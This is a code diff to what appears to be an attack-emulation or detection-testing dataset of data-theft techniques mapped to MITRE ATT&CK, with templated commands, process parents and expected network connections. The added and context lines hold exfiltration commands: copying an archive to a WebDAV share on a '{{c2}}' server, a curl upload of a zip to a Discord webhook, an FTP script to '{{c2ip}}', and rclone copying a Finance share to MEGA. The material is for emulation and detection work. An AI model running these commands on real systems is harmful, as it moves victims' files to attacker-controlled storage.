@@ -101,7 +101,23 @@ export const exfiltration = [
     "T1048",
     "Exfiltration over alternative protocol",
     "Data sent with FTP/SFTP/DNS outside the C2 channel.",
-    [v("ftp", [{ cmd: "ftp -s:{{tmp}}\\ftp.txt {{c2ip}}", net: [["{{c2ip}}", 21]] }])],
+    [
+      v("ftp", [{ cmd: "ftp -s:{{tmp}}\\ftp.txt {{c2ip}}", net: [["{{c2ip}}", 21]] }]),
+      // Copying to a WebDAV share on the intruder's server: the WebClient service (svchost -k LocalService)
+      // hands the HTTPS session to rundll32 davclnt.dll, and the archive leaves over 443.
+      v("webdav-copy", [
+        {
+          cmd: "cmd.exe /c copy C:\\ProgramData\\{{rand}}.7z \\\\{{c2}}@SSL\\DavWWWRoot\\up\\",
+          reads: ["C:\\ProgramData\\{{rand}}.7z"],
+        },
+        {
+          cmd: "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie {{c2}} https://{{c2}}/up/",
+          parent: "@svchost:LocalService",
+          user: "@localservice",
+          net: [["{{c2}}", 443]],
+        },
+      ]),
+    ],
   ),
   t("T1048.001", "Symmetric encrypted non-C2", "Data sent over an encrypted tunnel (SSH/SCP).", [
     v("scp", [
@@ -154,6 +170,14 @@ export const exfiltration = [
         net: [["transfer.sh", 443]],
       },
     ]),
+    // Stealers post the archive to a Discord webhook: no account, and the traffic blends with chat.
+    v("discord-webhook", [
+      {
+        cmd: 'curl.exe -s -F "file=@{{tmp}}\\{{rand}}.zip" https://discord.com/api/webhooks/{{n}}{{n}}{{n}}/{{rand2}}{{rand2}}',
+        reads: ["{{tmp}}\\{{rand}}.zip"],
+        net: [["discord.com", 443]],
+      },
+    ]),
   ]),
   t("T1567.001", "Exfiltration to code repository", "Data pushed to GitHub.", [
     v("git-push", [
@@ -178,9 +202,11 @@ export const exfiltration = [
     v("rclone-mega", [
       {
         cmd: "{{tools}}\\rclone.exe copy \\\\{{srv}}\\Finance mega:{{rand}} -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12",
+        // The API host hands out upload URLs on MEGA's storage nodes, where the data actually goes.
         net: [
           ["g.api.mega.co.nz", 443],
           ["@server", 445],
+          ["gfs{{n}}n{{n}}.userstorage.mega.co.nz", 443],
         ],
       },
     ]),
@@ -190,7 +216,15 @@ export const exfiltration = [
         net: [["content.dropboxapi.com", 443]],
       },
     ]),
-    v("megasync", [{ cmd: "{{local}}\\MEGAsync\\MEGAsync.exe", net: [["g.api.mega.co.nz", 443]] }]),
+    v("megasync", [
+      {
+        cmd: "{{local}}\\MEGAsync\\MEGAsync.exe",
+        net: [
+          ["g.api.mega.co.nz", 443],
+          ["gfs{{n}}n{{n}}.userstorage.mega.co.nz", 443],
+        ],
+      },
+    ]),
   ]),
   t("T1567.003", "Exfiltration to text storage sites", "Data posted to Pastebin-like sites.", [
     // Stealers post their harvest to a paste site's API straight from the implant process.
